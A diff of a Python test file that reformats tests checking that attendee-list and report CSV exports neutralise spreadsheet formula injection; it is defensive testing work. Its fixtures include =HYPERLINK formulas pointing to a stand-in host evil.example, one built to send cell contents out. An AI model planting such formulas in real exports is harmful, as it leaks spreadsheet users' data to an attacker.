@@ -18,8 +18,7 @@ from sessions import services as session_services
 from sessions.models import LONDON, SessionSeries
 from sessions.recurrence import Recurrence
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
-            "  =1+1"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1+1"]
 
 
 def _cells(response) -> list[list[str]]:
@@ -51,8 +50,13 @@ def test_the_attendee_list_neutralises_a_hostile_display_name(client, db):
     community = make_community(name="Circle", slug="circle", hosts=[host], acting_user=host)
     community_services.community_join(community=community, user=attacker)
     with time_machine.travel(datetime(2026, 11, 20, 9, 0, tzinfo=LONDON), tick=False):
-        series = SessionSeries(community=community, first_start=datetime(2026, 11, 27, 12, 0, tzinfo=LONDON),
-                               title="Lunch", format="in_person", location="Cardiff")
+        series = SessionSeries(
+            community=community,
+            first_start=datetime(2026, 11, 27, 12, 0, tzinfo=LONDON),
+            title="Lunch",
+            format="in_person",
+            location="Cardiff",
+        )
         session_services.series_create(series=series, recurrence=Recurrence(), acting_user=host)
         occurrence = series.occurrences.get()
         session_services.rsvp_set(occurrence=occurrence, user=attacker, going=True)
@@ -62,16 +66,32 @@ def test_the_attendee_list_neutralises_a_hostile_display_name(client, db):
 
 
 def test_the_report_and_action_exports_neutralise_hostile_text(client, db, coordinator):
-    plan = Plan.objects.create(title="CLIP", starts_on=datetime(2023, 2, 1).date(), ends_on=datetime(2025, 2, 28).date(),
-                               is_published=True)
-    period = ReportingPeriod.objects.create(plan=plan, label="2023–2024", starts_on=datetime(2023, 2, 1).date(),
-                                            ends_on=datetime(2024, 2, 29).date(),
-                                            update_deadline=datetime(2024, 2, 15).date())
+    plan = Plan.objects.create(
+        title="CLIP", starts_on=datetime(2023, 2, 1).date(), ends_on=datetime(2025, 2, 28).date(), is_published=True
+    )
+    period = ReportingPeriod.objects.create(
+        plan=plan,
+        label="2023–2024",
+        starts_on=datetime(2023, 2, 1).date(),
+        ends_on=datetime(2024, 2, 29).date(),
+        update_deadline=datetime(2024, 2, 15).date(),
+    )
     theme = Theme.objects.create(plan=plan, number=1, title="Learning")
-    action = Action.objects.create(plan=plan, theme=theme, number="1.1", title="-Reduce travel",
-                                   commitment="@everyone learns", title_cy="Lleihau teithio ŵ")
-    ProgressUpdate.objects.create(action=action, period=period, status="in_progress", author=coordinator,
-                                  narrative='=HYPERLINK("http://evil.example","x")')
+    action = Action.objects.create(
+        plan=plan,
+        theme=theme,
+        number="1.1",
+        title="-Reduce travel",
+        commitment="@everyone learns",
+        title_cy="Lleihau teithio ŵ",
+    )
+    ProgressUpdate.objects.create(
+        action=action,
+        period=period,
+        status="in_progress",
+        author=coordinator,
+        narrative='=HYPERLINK("http://evil.example","x")',
+    )
     client.force_login(coordinator)
     draft = _cells(client.get(f"/clip/report/{period.pk}.csv"))
     assert draft[1][2] == "'-Reduce travel" and draft[1][5].startswith("'=HYPERLINK")
@@ -88,13 +108,19 @@ def test_the_report_and_action_exports_neutralise_hostile_text(client, db, coord
 def test_a_report_published_before_the_fix_is_made_safe_when_downloaded(client, db, coordinator):
     from clip_tracker.models import PublishedReport
 
-    plan = Plan.objects.create(title="CLIP", starts_on=datetime(2023, 2, 1).date(), ends_on=datetime(2025, 2, 28).date(),
-                               is_published=True)
-    period = ReportingPeriod.objects.create(plan=plan, label="old", starts_on=datetime(2023, 2, 1).date(),
-                                            ends_on=datetime(2024, 2, 29).date(),
-                                            update_deadline=datetime(2024, 2, 15).date(),
-                                            published_at=datetime(2024, 3, 1, tzinfo=LONDON))
-    PublishedReport.objects.create(period=period, language="en", format="csv",
-                                   content="theme,number,progress\r\n1,1.1,=1+1\r\n")
+    plan = Plan.objects.create(
+        title="CLIP", starts_on=datetime(2023, 2, 1).date(), ends_on=datetime(2025, 2, 28).date(), is_published=True
+    )
+    period = ReportingPeriod.objects.create(
+        plan=plan,
+        label="old",
+        starts_on=datetime(2023, 2, 1).date(),
+        ends_on=datetime(2024, 2, 29).date(),
+        update_deadline=datetime(2024, 2, 15).date(),
+        published_at=datetime(2024, 3, 1, tzinfo=LONDON),
+    )
+    PublishedReport.objects.create(
+        period=period, language="en", format="csv", content="theme,number,progress\r\n1,1.1,=1+1\r\n"
+    )
     rows = _cells(client.get(f"/clip/report/{period.pk}.csv"))
     assert rows == [["theme", "number", "progress"], ["1", "1.1", "'=1+1"]]
